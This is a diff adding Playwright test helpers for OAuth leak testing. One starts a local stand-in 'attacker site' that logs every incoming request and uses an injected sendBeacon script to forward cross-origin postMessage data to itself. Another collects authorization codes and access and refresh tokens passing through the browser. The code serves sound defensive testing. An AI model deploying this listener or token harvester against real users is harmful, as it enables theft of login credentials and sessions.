@@ -1,0 +1,58 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { BrowserContext } from '@playwright/test';
+
+/** A page of somebody who wants what is not theirs, on an origin of its own. */
+export interface AttackerSite {
+  url: string;
+  origin: string;
+  /** All that reached it, as text: requests with addresses, headers and bodies, and the messages its pages heard. */
+  heard: string[];
+  close(): void;
+}
+
+/** Keeps every message that reaches the page, at the server, so that it survives the page. */
+const LISTEN = `<script>
+  addEventListener('message', ({ data, origin }) => {
+    navigator.sendBeacon('/message', JSON.stringify({ data, origin }));
+  });
+</script>`;
+
+/** Serves the attacker's page at every path, and keeps what arrives. */
+export async function openAttackerSite(html: (origin: string) => string): Promise<AttackerSite> {
+  const heard: string[] = [];
+  let origin = '';
+  const server = createServer(async (request, response) => {
+    let body = '';
+    for await (const chunk of request) body += chunk;
+    heard.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)} ${body}`);
+    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
+    response.end(`<!doctype html><title>Free coffee</title>${LISTEN}${html(origin)}`);
+  });
+  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
+  origin = `http://localhost:${(server.address() as AddressInfo).port}`;
+  return {
+    url: `${origin}/`,
+    origin,
+    heard,
+    close: () => {
+      server.closeAllConnections();
+      server.close();
+    },
+  };
+}
+
+/** Collects every authorization code that passes through the browser, and every token that a page is given. */
+export function watchSecrets(context: BrowserContext): string[] {
+  const secrets: string[] = [];
+  context.on('request', (request) => {
+    const code = new URL(request.url()).searchParams.get('code');
+    if (code) secrets.push(code);
+  });
+  context.on('response', async (response) => {
+    if (!response.url().endsWith('/oauth/token')) return;
+    const tokens = await response.json().catch(() => ({}));
+    for (const name of ['access_token', 'refresh_token']) if (tokens[name]) secrets.push(tokens[name]);
+  });
+  return secrets;
+}
